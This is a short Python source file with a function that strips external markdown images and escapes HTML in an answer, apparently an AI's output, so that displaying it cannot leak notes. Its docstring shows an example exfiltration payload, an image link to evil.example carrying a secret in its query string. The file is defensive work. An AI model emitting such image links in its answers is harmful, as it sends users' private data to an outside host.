"""Take out of an answer what would call an address as soon as it is shown: that can carry notes away."""

from typing import Final

from knapper.vault import links, parse

_MAX_HOST: Final = 100


def defused(answer: str) -> tuple[str, tuple[str, ...]]:
    """Turn images that stand elsewhere into plain mentions, and HTML into text; code stays as it is.

    ``![x](https://evil.example/?q=secret)`` becomes ``[image left out: evil.example]``.

    Returns:
        The answer, and what was done to it, for the person.
    """
    data = answer.encode()
    outline = parse.parse(data)
    edits: list[tuple[int, int, bytes]] = []
    notes: list[str] = []
    for link in outline.links:
        if data[link.start : link.start + 1] == b"!" and links.is_external(link.target):
            host = _host(link.target)
            notes.append(f"an image from {host} was left out of the answer")
            edits.append((link.start, link.stop, f"[image left out: {host}]".encode()))
    for start, stop in outline.code_spans:
        if data[start : start + 1] == b"<":
            edits.append((start, stop, data[start:stop].replace(b"<", b"&lt;")))
    for start, stop, text in sorted(edits, reverse=True):
        data = data[:start] + text + data[stop:]
    return data.decode(errors="replace"), tuple(notes)


def _host(target: str) -> str:
    host = target.partition("//")[2].partition("/")[0].partition("?")[0].rpartition("@")[2]
    return host[:_MAX_HOST] or target[:20]
